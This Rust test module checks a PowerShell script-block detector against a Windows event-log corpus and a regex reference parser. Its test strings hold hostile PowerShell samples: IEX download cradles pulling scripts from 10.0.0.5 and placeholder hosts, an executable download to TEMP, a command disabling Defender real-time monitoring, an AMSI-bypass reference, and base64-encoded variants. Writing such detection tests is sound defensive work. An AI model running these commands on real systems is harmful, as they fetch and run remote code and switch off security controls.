//! The gate's prefilters against the gate itself, on every script event of the
//! shared corpus (4104 blocks, 4103 commands, 800 pipelines, from its JSON, XML and
//! EVTX files): a text the prefilters reject is one the full gate passes nothing
//! for. And the hand-read 4103 entries against the regex they replace.

use std::path::{Path, PathBuf};
use std::sync::LazyLock;

use regex::Regex;

use super::*;
use crate::input::{InputSpec, open};
use crate::sources::{CollectingSink, read_input};

fn corpus_windows() -> Option<PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/windows");
    if dir.is_dir() {
        return Some(dir);
    }
    assert!(
        std::env::var_os("CI").is_none(),
        "{} is missing under CI",
        dir.display()
    );
    eprintln!("skipped: {} is absent", dir.display());
    None
}

/// The text `on_script` judges for `s`.
fn judged(d: &PowerShellDetector, s: &ScriptBlock) -> String {
    if s.event_id == 4103 {
        commands_from_4103(&s.text, &d.rules.inert_commands)
    } else {
        s.text.clone()
    }
}

#[test]
fn prefilter_rejects_only_what_the_gate_rejects_on_the_corpus() {
    let Some(dir) = corpus_windows() else {
        return;
    };
    let d = detector();
    let (mut scripts, mut rejected, mut passed_gate) = (0, 0, 0);
    let mut payloads_4103 = 0;
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .expect("corpus readable")
        .map(|e| e.expect("entry").path())
        .collect();
    files.sort();
    for path in files {
        let Ok(opened) = open(&InputSpec::File(path.clone()), None) else {
            continue;
        };
        let mut sink = CollectingSink::default();
        read_input(opened, &mut sink);
        for e in &sink.events {
            let Event::Script(s) = e else { continue };
            scripts += 1;
            if s.event_id == 4103 {
                payloads_4103 += 1;
                assert_eq!(
                    commands_from_4103(&s.text, &d.rules.inert_commands),
                    reference_commands_from_4103(&s.text, &d.rules.inert_commands),
                    "{}",
                    path.display()
                );
            }
            let text = judged(&d, s);
            let full = d.full_gate(&text);
            passed_gate += usize::from(full.is_some());
            if !PowerShellDetector::passes_prefilters(&text) {
                rejected += 1;
                assert!(
                    full.is_none(),
                    "{}: prefilter rejects a text the gate passes: {text:?}",
                    path.display()
                );
            }
        }
    }
    eprintln!(
        "{scripts} script events, {payloads_4103} 4103, {rejected} rejected by the prefilter, {passed_gate} pass the gate"
    );
    assert!(scripts > 400, "{scripts}");
    assert!(payloads_4103 > 100, "{payloads_4103}");
    // The prefilter does its job: most are decided without the analysis.
    assert!(rejected * 2 > scripts, "{rejected} of {scripts}");
    assert!(passed_gate > 0);
}

#[test]
fn a_repeated_text_is_judged_once_and_the_same() {
    // The memory of verdicts changes no decision: the same block from two hosts is
    // two findings, from one host one (merged), as without it.
    let text = "$ErrorActionPreference = 'SilentlyContinue'; IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')";
    let mut d = detector();
    let mut out = Findings::default();
    for host in ["a", "b", "a"] {
        let s = ScriptBlock {
            time: None,
            host: host.into(),
            pid: None,
            user: None,
            script_block_id: String::new(),
            path: None,
            host_application: None,
            text: text.into(),
            event_id: 4104,
            provenance: Provenance {
                path: std::sync::Arc::from("t"),
                position: crate::event::Position::Line(1),
                format: "xml",
            },
        };
        d.observe(&Event::Script(s), &mut out);
    }
    assert_eq!(out.len(), 2);
    assert_eq!(d.verdicts.entries.len(), 1);
    // A benign text is not remembered (the prefilter decides it).
    let mut out = Findings::default();
    let mut s = ScriptBlock {
        time: None,
        host: "a".into(),
        pid: None,
        user: None,
        script_block_id: String::new(),
        path: None,
        host_application: None,
        text: "Get-ChildItem C:\\ | Sort-Object Length".into(),
        event_id: 4104,
        provenance: Provenance {
            path: std::sync::Arc::from("t"),
            position: crate::event::Position::Line(2),
            format: "xml",
        },
    };
    d.observe(&Event::Script(s.clone()), &mut out);
    assert_eq!((out.len(), d.verdicts.entries.len()), (0, 1));
    // Bounded: many distinct suppressing texts keep at most the limit.
    for k in 0..(VERDICT_MEMORY + 50) {
        s.text = format!("Get-Item x{k} -ea 0");
        d.observe(&Event::Script(s.clone()), &mut out);
    }
    assert!(d.verdicts.entries.len() <= VERDICT_MEMORY);
    assert_eq!(d.verdicts.order.len(), d.verdicts.entries.len());
}

#[test]
fn prefilter_keeps_every_finding_of_the_detector_tests() {
    // The texts of this module's own tests and their encoded forms: whatever the
    // gate passes, the prefilters pass.
    let d = detector();
    let texts = [
        "$ErrorActionPreference = 'SilentlyContinue'; IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
        "Get-Item x -ea 0; (New-Object Net.WebClient).DownloadFile('http://x/a.exe', \"$env:TEMP\\a.exe\")",
        "$e='Silently'+'Continue'; $ErrorActionPreference=$e; I`E`X (iwr http://x/p)",
        "Set-MpPreference -DisableRealtimeMonitoring $true -ErrorAction SilentlyContinue",
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils') 2>$null",
    ];
    let mut fired = 0;
    for t in texts {
        for v in [
            t.to_string(),
            format!("powershell -enc {}", enc(t)),
            format!(
                "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}')))",
                enc(t)
            ),
        ] {
            let full = d.full_gate(&v).is_some();
            fired += usize::from(full);
            assert!(!full || PowerShellDetector::passes_prefilters(&v), "{v}");
        }
    }
    assert!(fired >= 9, "{fired}");
}

#[test]
fn hand_read_4103_entries_equal_the_regex() {
    const LINES: &[&str] = &[
        "CommandInvocation(Get-Item): \"Get-Item\"",
        "ParameterBinding(Get-Item): name=\"ErrorAction\"; value=\"Ignore\"",
        "ParameterBinding(Get-Item): name=\"Path\"; value=\"C:\\x 'q' \"y\"\"",
        "ParameterBinding(Out-Default): name=\"InputObject\"; value=\"\"",
        "CommandInvocation(Out-Default): \"Out-Default\"",
        "NonTerminatingError(Get-Item): \"Cannot find path\"",
        "TerminatingError(x): \"boom\"",
        "ParameterBinding(Set-Alias): name=\"Name\"; value=\"irm\"",
        "CommandInvocation(a(b): \"x\"",
        "CommandInvocation(multi\nline): \"x\"",
        "ParameterBinding(x): value=\"no name\"",
        "ParameterBinding(x) name=\"no colon\"",
        "  CommandInvocation(indented): \"x\"",
        "Context:",
        "        Severity = Informational",
        "",
        "\r",
        "é😀 value=\"ü\"",
    ];
    let inert = ["Out-Default".to_string(), "set-alias".to_string()];
    let mut seed: u64 = 0x4103_4103_4103;
    let mut next = |n: usize| {
        seed = seed
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        ((seed >> 33) as usize) % n
    };
    for _ in 0..5_000 {
        let mut p = String::new();
        for _ in 0..next(12) {
            p.push_str(LINES[next(LINES.len())]);
            p.push_str(["\n", "\r\n", "", " "][next(4)]);
        }
        assert_eq!(
            commands_from_4103(&p, &inert),
            reference_commands_from_4103(&p, &inert),
            "{p:?}"
        );
    }
}

/// The 4103 reader as it was before the hand-read entries (regex captures), kept
/// as the oracle.
fn reference_commands_from_4103(payload: &str, inert: &[String]) -> String {
    static ENTRY: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?m)^(CommandInvocation|ParameterBinding|NonTerminatingError|TerminatingError)\(([^)]*)\):")
            .expect("valid regex")
    });
    let field = |body: &str, field: &str| -> Option<String> {
        let start = body.find(&format!("{field}=\""))? + field.len() + 2;
        let end = body[start..].find('"')? + start;
        Some(body[start..end].to_string())
    };
    let value = |body: &str| -> Option<String> {
        let start = body.find("value=\"")? + "value=\"".len();
        let end = body.rfind('"')?;
        (end >= start).then(|| body[start..end].to_string())
    };
    let starts: Vec<(usize, usize, bool, String)> = ENTRY
        .captures_iter(payload)
        .filter_map(|c| {
            let m = c.get(0)?;
            Some((
                m.start(),
                m.end(),
                &c[1] == "ParameterBinding",
                c[2].to_string(),
            ))
        })
        .chain(std::iter::once((
            payload.len(),
            payload.len(),
            false,
            String::new(),
        )))
        .collect();
    let mut lines: Vec<String> = Vec::new();
    let mut current: Option<(String, String)> = None;
    for w in starts.windows(2) {
        let (_, body_start, is_binding, command) = &w[0];
        let body = &payload[*body_start..w[1].0];
        let is_invocation = !is_binding && payload[w[0].0..].starts_with("CommandInvocation");
        if is_invocation {
            if let Some((_, line)) = current.take() {
                lines.push(line);
            }
            current = Some((command.clone(), command.clone()));
        } else if *is_binding {
            let (Some(name), Some(value)) = (field(body, "name"), value(body)) else {
                continue;
            };
            match current.as_mut() {
                Some((cmd, line)) if cmd == command => {
                    line.push_str(&format!(" -{name} '{}'", value.replace('\'', "''")));
                }
                _ => {
                    if let Some((_, line)) = current.take() {
                        lines.push(line);
                    }
                    current = Some((
                        command.clone(),
                        format!("{command} -{name} '{}'", value.replace('\'', "''")),
                    ));
                }
            }
        }
    }
    if let Some((_, line)) = current.take() {
        lines.push(line);
    }
    lines
        .into_iter()
        .filter(|line| {
            let cmd = line.split(' ').next().unwrap_or("");
            !inert.iter().any(|i| i.eq_ignore_ascii_case(cmd))
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn detector() -> PowerShellDetector {
    PowerShellDetector::new(&Rules::embedded()).unwrap()
}

fn enc(text: &str) -> String {
    use base64::Engine;
    let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(utf16)
}
